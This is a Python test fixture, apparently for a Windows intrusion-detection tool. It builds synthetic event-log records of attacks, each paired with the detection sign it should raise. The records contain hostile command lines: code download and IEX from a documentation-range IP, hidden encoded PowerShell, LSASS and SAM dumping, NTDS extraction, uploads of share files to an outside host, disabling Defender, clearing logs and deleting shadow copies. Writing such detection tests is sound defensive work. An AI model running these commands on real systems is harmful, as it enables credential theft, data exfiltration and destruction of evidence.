"""Made attacks: for each, the records that a host's log would hold, and those that a trace must rest on."""

from __future__ import annotations

from dataclasses import dataclass

from firstbell.drill.intrusion.eventlogs import Event
from tests.investigate.hunts.made import AUDITING, SECOND_NS, START_NS

SYSMON = "Microsoft-Windows-Sysmon"
POWERSHELL = "Microsoft-Windows-PowerShell"
DEFENDER = "Microsoft-Windows-Windows Defender"
_CHANNELS = {
    AUDITING: "Security",
    SYSMON: f"{SYSMON}/Operational",
    POWERSHELL: f"{POWERSHELL}/Operational",
    DEFENDER: f"{DEFENDER}/Operational",
    "PowerShell": "Windows PowerShell",
    "ESENT": "Application",
    "Service Control Manager": "System",
}


@dataclass(frozen=True)
class Attack:
    """One attack: the sign it must raise, and its records. `relied`: how many of them the trace rests on."""

    sign: str
    events: tuple[Event, ...]

    @property
    def name(self) -> str:
        """What pytest calls it."""
        first = self.events[0]
        return f"{self.sign}-{first.event_id}-{len(self.events)}"


def event(provider: str, event_id: int, *, channel: str = "", user_data: str = "", **data: str) -> Event:
    """A record, still without a number and a time."""
    named = channel or _CHANNELS.get(provider, f"{provider}/Operational")
    return Event(0, 0, event_id, named, provider, data, "ws17.district.example", user_data)


def attack(sign: str, *events: Event, every_s: float = 1) -> Attack:
    """The attack, its records so many seconds apart."""
    placed = tuple(
        Event(
            500 + at,
            START_NS + int((500 + at * every_s) * SECOND_NS),
            one.event_id,
            one.channel,
            one.provider,
            one.data,
            one.computer,
            one.user_data,
        )
        for at, one in enumerate(events)
    )
    return Attack(sign, placed)


def process(image: str, command: str, parent: str = r"C:\Windows\explorer.exe", **more: str) -> Event:
    """Sysmon's record of a process that was started."""
    return event(
        SYSMON, 1, Image=image, CommandLine=command, ParentImage=parent, User="DISTRICT\\bob", **more
    )


def audited(event_id: int, **data: str) -> Event:
    """A record of the log Security."""
    return event(AUDITING, event_id, **data)


def script(text: str) -> Event:
    """PowerShell's record of a script block."""
    return event(POWERSHELL, 4104, ScriptBlockText=text, Path="", MessageNumber="1", MessageTotal="1")


CMD = r"C:\Windows\System32\cmd.exe"
PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
BASE64 = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
TS = "Microsoft-Windows-TerminalServices-{}"

ATTACKS = (
    attack(
        "entry.remote_logon",
        audited(4624, TargetUserName="alice", LogonType="10", IpAddress="203.0.113.77", SubjectUserName="-"),
    ),
    attack(
        "entry.remote_logon",
        event(
            TS.format("RemoteConnectionManager"),
            1149,
            user_data="EventXML",
            Param1="bob",
            Param2="D",
            Param3="198.51.100.9",
        ),
    ),
    attack(
        "entry.remote_logon",
        event(
            TS.format("LocalSessionManager"),
            21,
            user_data="EventXML",
            User="D\\bob",
            SessionID="2",
            Address="198.51.100.9",
        ),
    ),
    attack(
        "entry.guessing",
        *[
            audited(4625, TargetUserName=f"u{n % 3}", IpAddress="10.0.0.9", WorkstationName="KALI")
            for n in range(12)
        ],
    ),
    attack(
        "entry.guessing",
        *[audited(4771, TargetUserName="bob", Status="0x18", IpAddress="::ffff:10.0.0.9") for _ in range(10)],
    ),
    attack(
        "entry.guessing",
        *[
            audited(
                4648, SubjectUserSid="S-1-5-21-1-1104", SubjectUserName="bob", TargetUserName=f"u{n}",
                TargetServerName="dc01",
            )
            for n in range(9)
        ],
    ),
    attack(
        "entry.webshell",
        process(CMD, 'cmd.exe /c "whoami"', parent=r"C:\Windows\System32\inetsrv\w3wp.exe"),
    ),
    attack(
        "entry.exploit",
        audited(
            4742, SubjectUserName="ANONYMOUS LOGON", TargetUserName="DC01$", PasswordLastSet="11/14/2023 22:13:20"
        ),
    ),
    attack(
        "entry.exploit",
        audited(5145, SubjectUserName="ANONYMOUS LOGON", ShareName=r"\\*\IPC$", RelativeTargetName="lsarpc", IpAddress="10.0.0.9"),
    ),
    attack(
        "entry.remote_tool",
        event("Service Control Manager", 7045, ServiceName="AnyDesk Service", ImagePath=r'"C:\ProgramData\AnyDesk\AnyDesk.exe" --service', StartType="auto start"),
    ),
    attack(
        "entry.opened",
        process(PS, "powershell -w hidden -c x", parent=r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"),
    ),
    attack("run.download", process(r"C:\Windows\System32\certutil.exe", "certutil -urlcache -split -f http://203.0.113.7/a.exe a.exe")),
    attack("run.download", script("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')")),
    attack("run.hidden_script", process(PS, f"powershell.exe -nop -w hidden -enc {BASE64}")),
    attack("run.hidden_script", script("$a=[Convert]::FromBase64String('" + BASE64 + "'); IEX ([Text.Encoding]::Unicode.GetString($a))")),
    attack("tool.named", event(DEFENDER, 1116, **{"Threat Name": "HackTool:Win32/Mimikatz", "Path": r"file:_C:\x.exe", "Detection User": "D\\bob"})),
    attack("tool.named", process(r"C:\Users\Public\AdFind.exe", "AdFind.exe -f (objectcategory=computer)")),
    attack("account.created", audited(4720, TargetUserName="itadm", SubjectUserName="bob", TargetSid="S-1-5-21-1-1200")),
    attack("account.raised", audited(4728, TargetUserName="Domain Admins", TargetSid="S-1-5-21-1-2-3-512", MemberName="CN=itadm,DC=x", SubjectUserName="bob")),
    attack("account.raised", audited(4732, TargetUserName="Administratoren", TargetSid="S-1-5-32-544", MemberSid="S-1-5-21-1-2-3-1200", MemberName="-", SubjectUserName="bob")),
    attack("account.reset", *[audited(4724, TargetUserName=f"teacher{n}", SubjectUserName="bob") for n in range(25)]),
    attack("account.hidden", audited(4720, TargetUserName="svc$", SubjectUserName="bob", TargetSid="S-1-5-21-1-1201")),
    attack(
        "account.passwords",
        *[audited(4769, TargetUserName="bob@D", ServiceName=f"sql{n}", TicketEncryptionType="0x17", TicketOptions="0x40810000", Status="0x0", IpAddress="10.0.0.9") for n in range(6)],
    ),
    attack("account.passwords", audited(4768, TargetUserName="svc-old", PreAuthType="0", Status="0x0", IpAddress="10.0.0.9", ServiceName="krbtgt")),
    attack("account.dump", event(SYSMON, 10, SourceImage=r"C:\Users\bob\Desktop\p.exe", TargetImage=r"C:\Windows\system32\lsass.exe", GrantedAccess="0x1FFFFF", CallTrace="x")),
    attack("account.dump", process(r"C:\Windows\System32\rundll32.exe", r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\x.dmp full")),
    attack("account.dump", process(r"C:\Windows\System32\reg.exe", r"reg save HKLM\SAM C:\Windows\Temp\sam.hiv")),
    attack("account.ntds", event("ESENT", 325, **{"": r"lsass (624) The database engine created a new database (1, C:\Windows\Temp\ifm\ntds.dit)."})),
    attack("account.ntds", process(r"C:\Windows\System32\ntdsutil.exe", 'ntdsutil "ac i ntds" ifm "create full c:\\temp" q q')),
    attack("account.dcsync", audited(4662, SubjectUserName="bob", AccessMask="0x100", Properties="%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}", ObjectType="{19195a5b-6da0-11d0-afd3-00c04fd930c9}")),
    attack(
        "look.scan",
        *[audited(5145, SubjectUserName="bob", IpAddress="10.0.0.9", ShareName=r"\\*\IPC$", RelativeTargetName=name) for name in ("samr", "lsarpc", "srvsvc")],
    ),
    attack("look.scan", *[audited(4799, SubjectUserName="bob", TargetUserName=f"group{n}", CallerProcessId="0x55", CallerProcessName=r"C:\x\s.exe") for n in range(6)]),
    attack("move.service", event("Service Control Manager", 7045, ServiceName="PSEXESVC", ImagePath=r"%SystemRoot%\PSEXESVC.exe", StartType="demand start")),
    attack("move.service", event("Service Control Manager", 7045, ServiceName="BTOBTO", ImagePath=r"%COMSPEC% /Q /c echo cd ^> \\127.0.0.1\C$\__output 2^>^&1 > %TEMP%\execute.bat")),
    attack("move.task", audited(4698, TaskName=r"\AbCdEfGh", SubjectUserName="bob", TaskContent="<Exec><Command>cmd.exe</Command></Exec>"), audited(4699, TaskName=r"\AbCdEfGh", SubjectUserName="bob")),
    attack("move.wmi", process(CMD, r"cmd.exe /Q /c whoami 1> \\127.0.0.1\ADMIN$\__1700000.1 2>&1", parent=r"C:\Windows\System32\wbem\WmiPrvSE.exe")),
    attack("move.winrm", process(CMD, "cmd.exe /c whoami", parent=r"C:\Windows\System32\wsmprovhost.exe")),
    attack("move.share", audited(5145, SubjectUserName="bob", IpAddress="10.0.0.9", ShareName=r"\\*\ADMIN$", RelativeTargetName=r"Temp\x.exe", AccessList="%%4417 %%4418")),
    attack("move.rdp", event(TS.format("RDPClient"), 1024, channel=TS.format("RDPClient") + "/Operational", Name="Server Name", Value="fs02")),
    attack("stage.archive", process(r"C:\Users\Public\rar.exe", r"rar.exe a -hpSecret -v500m C:\PerfLogs\d.rar \\fs02\Departments")),
    attack("theft.tool", process(r"C:\Users\Public\svchost.exe", r"svchost.exe copy \\fs02\d remote:x --transfers 30 --no-check-certificate", OriginalFileName="rclone.exe")),
    attack("theft.script", script("Get-ChildItem -Recurse C:\\Shares | % { (New-Object Net.WebClient).UploadFile('http://203.0.113.5/up', $_.FullName) }")),
    attack("theft.bits", event("Microsoft-Windows-Bits-Client", 59, name="job", url="http://203.0.113.5/up", bytesTransferred="5")),
    attack("theft.mail", event("MSExchange CmdletLogs", 1, channel="MSExchange Management", **{"": "New-MailboxExportRequest -Mailbox head -FilePath \\\\x\\c$\\h.pst"})),
    attack("stay.run", event(SYSMON, 13, Image=r"C:\Windows\system32\reg.exe", TargetObject=r"HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Run\Upd", Details=r"C:\Users\Public\u.exe")),
    attack("stay.service", event("Service Control Manager", 7045, ServiceName="Upd", ImagePath=r"C:\Users\Public\u.exe", StartType="auto start")),
    attack("stay.task", audited(4698, TaskName=r"\Upd", SubjectUserName="bob", SubjectUserSid="S-1-5-21-1-2", TaskContent="<Exec><Command>powershell.exe</Command></Exec>")),
    attack("stay.wmi", event(SYSMON, 20, EventType="WmiConsumerEvent", Operation="Created", User="D\\bob", Name="Upd", Destination="cmd")),
    attack("stay.bits", process(r"C:\Windows\System32\bitsadmin.exe", "bitsadmin /SetNotifyCmdLine job c:\\x.exe NULL")),
    attack("stay.policy", audited(5136, SubjectUserName="bob", ObjectClass="groupPolicyContainer", ObjectDN="CN={31B2},CN=Policies", AttributeLDAPDisplayName="gPCMachineExtensionNames", OperationType="%%14674")),
    attack("stay.rdp", event(SYSMON, 13, Image=r"C:\Windows\system32\reg.exe", TargetObject=r"HKLM\System\CurrentControlSet\Control\Terminal Server\fDenyTSConnections", Details="DWORD (0x00000000)")),
    attack("stay.rdp", process(r"C:\Windows\System32\netsh.exe", "netsh interface portproxy add v4tov4 listenport=8001 connectaddress=10.0.0.5 connectport=3389")),
    attack("hide.cleared", event("Microsoft-Windows-Eventlog", 104, channel="System", user_data="LogFileCleared", SubjectUserName="bob", Channel="Application")),
    attack("hide.cleared", process(r"C:\Windows\System32\wevtutil.exe", "wevtutil cl Security")),
    attack("hide.history", process(PS, "powershell Remove-Item (Get-PSReadlineOption).HistorySavePath")),
    attack("hide.defences", event(DEFENDER, 5001)),
    attack("hide.defences", process(PS, "powershell Set-MpPreference -DisableRealtimeMonitoring $true")),
    attack("hide.audit", audited(4719, SubjectUserName="bob", SubjectUserSid="S-1-5-21-1", AuditPolicyChanges="%%8448", SubcategoryGuid="{x}")),
    attack("hide.audit", event("Service Control Manager", 7036, param1="Windows Event Log", param2="stopped")),
    attack("hide.recovery", process(r"C:\Windows\System32\vssadmin.exe", "vssadmin delete shadows /all /quiet")),
)  # fmt: skip
